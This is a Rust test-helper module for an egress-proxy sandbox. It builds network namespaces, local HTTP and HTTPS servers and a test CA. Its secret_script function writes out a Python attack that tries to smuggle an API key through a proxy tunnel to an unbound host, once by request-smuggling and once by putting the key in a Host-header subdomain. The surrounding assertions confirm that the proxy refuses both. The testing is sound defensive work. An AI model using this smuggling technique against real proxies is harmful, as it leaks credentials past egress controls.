//! For tests of egress (feature `testkit`): real servers in network namespaces a test
//! makes, never at any outside address. The test's body runs on a thread of its own in
//! a new network namespace, standing for the host (it has [`HOST`] on a veth); behind
//! that veth, in a far namespace, servers listen on [`PUBLIC`]. The host's own address
//! is one the proxy refuses, as it refuses any of its interfaces', so servers live
//! behind the veth, as a real server is.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::missing_panics_doc,
    reason = "test helpers fail loudly"
)]

use std::cell::RefCell;
use std::future::Future;
use std::io;
use std::os::fd::AsRawFd;
use std::process::Command;
use std::sync::{Arc, Mutex};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;

/// A server's address, in the far namespace.
pub const PUBLIC: &str = "203.0.113.7";
/// The host's own address (the test thread's namespace's end of the veth).
pub const HOST: &str = "203.0.113.1";

thread_local! {
    /// The far namespace of the test running on this thread.
    static FAR: RefCell<Option<String>> = const { RefCell::new(None) };
}

/// Removes the far namespace however the test ends.
struct Far(String);

impl Drop for Far {
    fn drop(&mut self) {
        let _ = Command::new("ip").args(["netns", "del", &self.0]).status();
    }
}

fn ip(args: &[&str]) {
    let status = Command::new("ip").args(args).status().unwrap();
    assert!(status.success(), "ip {args:?}");
}

/// Why the namespaces cannot be made here, if they cannot (the caller skips).
pub fn cannot_run() -> Option<&'static str> {
    // SAFETY: geteuid has no preconditions.
    (unsafe { libc::geteuid() } != 0)
        .then_some("making network namespaces with a veth between them needs root")
}

/// Runs `body` on a thread of its own in a new network namespace with `lo` up and
/// [`HOST`] on a veth whose other end, in a far namespace, has [`PUBLIC`] (`lo` up
/// there too); both go when it ends. Only where [`cannot_run`] says nothing.
pub fn in_netns<F, Fut>(body: F)
where
    F: FnOnce() -> Fut + Send + 'static,
    Fut: Future<Output = ()>,
{
    static NEXT: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
    let n = NEXT.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
    let far = format!("sbx-far-{}-{n}", std::process::id());
    let done = std::thread::spawn(move || {
        // SAFETY: unshare on this thread only (a network namespace is per thread); the
        // thread is ours and ends with the test.
        let rc = unsafe { libc::unshare(libc::CLONE_NEWNET) };
        assert_eq!(
            rc,
            0,
            "unshare(CLONE_NEWNET): {}",
            io::Error::last_os_error()
        );
        // A child forked from this thread is in its namespace.
        ip(&["netns", "add", &far]);
        let _far = Far(far.clone());
        ip(&["link", "set", "lo", "up"]);
        ip(&[
            "link", "add", "sbx-host", "type", "veth", "peer", "name", "sbx-far", "netns", &far,
        ]);
        ip(&["addr", "add", &format!("{HOST}/24"), "dev", "sbx-host"]);
        ip(&["link", "set", "sbx-host", "up"]);
        ip(&[
            "-n",
            &far,
            "addr",
            "add",
            &format!("{PUBLIC}/24"),
            "dev",
            "sbx-far",
        ]);
        ip(&["-n", &far, "link", "set", "sbx-far", "up"]);
        ip(&["-n", &far, "link", "set", "lo", "up"]);
        FAR.with(|f| *f.borrow_mut() = Some(far.clone()));
        tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap()
            .block_on(body());
    });
    done.join().unwrap();
}

fn bind(ip: &str) -> std::net::TcpListener {
    let listener = std::net::TcpListener::bind((ip, 0)).unwrap();
    listener.set_nonblocking(true).unwrap();
    listener
}

/// A listener on `ip`, port 0: for [`PUBLIC`] in the far namespace (a socket keeps the
/// namespace it was made in), else in the calling thread's. Only inside [`in_netns`].
pub fn listen(ip: &str) -> TcpListener {
    if ip == PUBLIC {
        let far = FAR.with(|f| f.borrow().clone()).expect("inside in_netns");
        return listen_in_netns(&far, ip);
    }
    TcpListener::from_std(bind(ip)).unwrap()
}

/// A listener on `ip`, port 0, in the named network namespace `netns` (`ip netns add`),
/// for a test that makes its own namespaces (a socket keeps the namespace it was made
/// in, whichever thread serves it). Inside a tokio runtime.
pub fn listen_in_netns(netns: &str, ip: &str) -> TcpListener {
    let (netns, ip) = (netns.to_string(), ip.to_string());
    let listener = std::thread::spawn(move || {
        let ns = std::fs::File::open(format!("/run/netns/{netns}")).unwrap();
        // SAFETY: setns on this short-lived thread only, with a namespace fd held
        // open.
        let rc = unsafe { libc::setns(ns.as_raw_fd(), libc::CLONE_NEWNET) };
        assert_eq!(rc, 0, "setns: {}", io::Error::last_os_error());
        bind(&ip)
    })
    .join()
    .unwrap();
    TcpListener::from_std(listener).unwrap()
}

/// An HTTP server on `ip` answering every request with `served <its request line>`; its
/// port.
pub async fn http_server(ip: &str) -> u16 {
    let listener = listen(ip);
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        loop {
            let (mut stream, _) = listener.accept().await.unwrap();
            tokio::spawn(async move {
                let Some(head) = read_head(&mut stream).await else {
                    return;
                };
                let line = head.lines().next().unwrap_or_default().to_string();
                let body = format!("served {line}");
                let answer = format!(
                    "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n{body}",
                    body.len()
                );
                let _ = stream.write_all(answer.as_bytes()).await;
            });
        }
    });
    port
}

async fn read_head<S: AsyncReadExt + Unpin>(stream: &mut S) -> Option<String> {
    let mut got = Vec::new();
    let mut buf = [0u8; 4096];
    while !got.windows(4).any(|w| w == b"\r\n\r\n") {
        match stream.read(&mut buf).await {
            Ok(0) | Err(_) => return None,
            Ok(n) => got.extend_from_slice(&buf[..n]),
        }
    }
    Some(String::from_utf8_lossy(&got).into_owned())
}

/// A test CA: (its certificate, the same as PEM, a TLS server config for `names`
/// signed by it).
pub fn test_tls(
    names: &[&str],
) -> (
    rustls::pki_types::CertificateDer<'static>,
    String,
    Arc<rustls::ServerConfig>,
) {
    let mut params = rcgen::CertificateParams::default();
    params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    // Its own name: a leaf with the issuer's name would read as self-signed.
    params.distinguished_name = rcgen::DistinguishedName::new();
    params
        .distinguished_name
        .push(rcgen::DnType::CommonName, "skillbox test CA");
    let ca =
        rcgen::CertifiedIssuer::self_signed(params, rcgen::KeyPair::generate().unwrap()).unwrap();
    let key = rcgen::KeyPair::generate().unwrap();
    let leaf =
        rcgen::CertificateParams::new(names.iter().map(|n| n.to_string()).collect::<Vec<_>>())
            .unwrap()
            .signed_by(&key, &ca)
            .unwrap();
    let config = rustls::ServerConfig::builder_with_provider(Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .with_no_client_auth()
    .with_single_cert(
        vec![leaf.der().clone()],
        rustls::pki_types::PrivateKeyDer::Pkcs8(key.serialize_der().into()),
    )
    .unwrap();
    (ca.der().clone(), ca.pem(), Arc::new(config))
}

/// What an HTTPS server saw of each request: (the SNI, its `Authorization` header).
pub type Seen = Arc<Mutex<Vec<(String, String)>>>;

/// An HTTPS server on [`PUBLIC`] recording each request in `seen`; it answers `ok`. Its
/// port.
pub async fn https_server(config: Arc<rustls::ServerConfig>, seen: Seen) -> u16 {
    https_server_on(listen(PUBLIC), config, seen).await
}

/// [`https_server`] on a listener of the caller's ([`listen_in_netns`]).
pub async fn https_server_on(
    listener: TcpListener,
    config: Arc<rustls::ServerConfig>,
    seen: Seen,
) -> u16 {
    let port = listener.local_addr().unwrap().port();
    let acceptor = tokio_rustls::TlsAcceptor::from(config);
    tokio::spawn(async move {
        loop {
            let (stream, _) = listener.accept().await.unwrap();
            let (acceptor, seen) = (acceptor.clone(), seen.clone());
            tokio::spawn(async move {
                let Ok(mut tls) = acceptor.accept(stream).await else {
                    return;
                };
                let sni = tls
                    .get_ref()
                    .1
                    .server_name()
                    .unwrap_or_default()
                    .to_string();
                let Some(head) = read_head(&mut tls).await else {
                    return;
                };
                let auth = head
                    .lines()
                    .find_map(|l| l.strip_prefix("Authorization: "))
                    .unwrap_or_default()
                    .to_string();
                seen.lock().unwrap().push((sni, auth));
                let _ = tls
                    .write_all(
                        b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok",
                    )
                    .await;
                let _ = tls.shutdown().await;
            });
        }
    });
    port
}

/// A Python script that fetches `https://HOST:port/` for each of `hosts` with the
/// header `Authorization: Bearer $API_KEY`, trusting `test_ca` too (a host reached
/// through a plain tunnel shows its own certificate: the test CA's), and first prints
/// whether `$API_KEY` is a placeholder and its length. Then the attack on a secret's
/// tunnel: through `HTTPS_PROXY`, `CONNECT` to the first host (the secret's), and
/// inside the TLS a request for the second by its absolute URL with `Host` naming it
/// and the placeholder in `Authorization`, then one with `Host: $API_KEY.<second>`;
/// each prints `smuggled`, the status and `X-Skillbox-Egress`.
pub fn secret_script(hosts: &[&str], port: u16, test_ca: &str) -> String {
    let (bound, other) = (hosts[0], hosts[hosts.len() - 1]);
    format!(
        r#"
import http.client, os, ssl, urllib.parse, urllib.request
key = os.environ["API_KEY"]
print(key.startswith("skillbox-secret-"), len(key))
context = ssl.create_default_context()
context.load_verify_locations(cadata="""{test_ca}""")
for host in {hosts:?}:
    request = urllib.request.Request("https://" + host + ":{port}/", headers={{"Authorization": "Bearer " + key}})
    print(host, urllib.request.urlopen(request, timeout=10, context=context).read().decode())
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
for target, headers in [
    ("https://{other}/C", {{"Host": "{other}", "Authorization": "Bearer " + key}}),
    ("/C", {{"Host": key + ".{other}"}}),
]:
    tunnel = http.client.HTTPSConnection(proxy.hostname, proxy.port, context=context, timeout=10)
    tunnel.set_tunnel("{bound}", {port})
    tunnel.putrequest("GET", target, skip_host=True, skip_accept_encoding=True)
    for name, value in headers.items():
        tunnel.putheader(name, value)
    tunnel.endheaders()
    answer = tunnel.getresponse()
    print("smuggled", answer.status, answer.getheader("X-Skillbox-Egress"))
"#
    )
}

/// Checks what [`secret_script`] for `api.test` and `other.test` printed (`code`,
/// `out`, `err`) and what the HTTPS server saw, for a secret `value` bound to
/// `api.test` only: the script saw a placeholder and reached both hosts; `api.test` got
/// the value in its header, `other.test` the placeholder; both requests for
/// `other.test` smuggled into `api.test`'s tunnel were refused `421` and reached no
/// server; the value is in no output.
pub fn assert_secret_only_for_its_host(value: &str, code: i32, out: &str, err: &str, seen: &Seen) {
    assert_eq!(
        (code, out),
        (
            0,
            "True 48\napi.test ok\nother.test ok\nsmuggled 421 refused\nsmuggled 421 refused\n"
        ),
        "{err}"
    );
    assert!(!out.contains(value) && !err.contains(value));
    let seen = seen.lock().unwrap().clone();
    assert_eq!(seen.len(), 2, "{seen:?}");
    assert_eq!(seen[0], ("api.test".to_string(), format!("Bearer {value}")));
    assert_eq!(seen[1].0, "other.test");
    assert!(seen[1].1.starts_with("Bearer skillbox-secret-"), "{seen:?}");
}
